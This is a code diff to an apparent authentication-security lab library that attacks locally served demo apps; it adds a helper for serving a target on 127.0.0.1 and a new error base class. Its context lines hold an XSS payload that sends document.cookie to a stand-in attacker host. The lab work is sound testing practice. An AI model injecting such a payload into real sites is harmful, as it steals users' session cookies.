@@ -19,6 +19,8 @@ import requests
 
 from authlab.attacks.session_attacks import CookieFlags, probe_cookie_flags
 from authlab.client import log_in
+from authlab.errors import AuthlabError
+from authlab.server import serve
 from authlab.users import DEMO_USERS
 
 KINDS = ("session", "jwt-header", "jwt-cookie")
@@ -27,7 +29,7 @@ ATTACKER_ORIGIN = "https://attacker.example"
 XSS_PAYLOAD = "<script>fetch('https://attacker.example/?c='+document.cookie)</script>"
 
 
-class TargetError(Exception):
+class TargetError(AuthlabError):
     """The server could not be attacked at all: unreachable, or the login failed."""
 
 
@@ -116,6 +118,12 @@ class Target:
             else:
                 cookies[self.token_cookie or self.observed().cookie_name] = token
         return requests.get(f"{self.url}/profile", headers=headers, cookies=cookies, timeout=TIMEOUT)
+
+
+def serve_target(app: Any, kind: str, *, name: str | None = None, **options: Any) -> Target:
+    """Serve ``app`` on 127.0.0.1 (``authlab.serve``: a server of the same ``name`` is replaced) and return it
+    as a Target of ``kind``; ``options`` go to Target (``username``, ``password``, ...)."""
+    return Target(serve(app, name=name).url, kind, **options)
 
 
 def _reason(error: Exception) -> str:
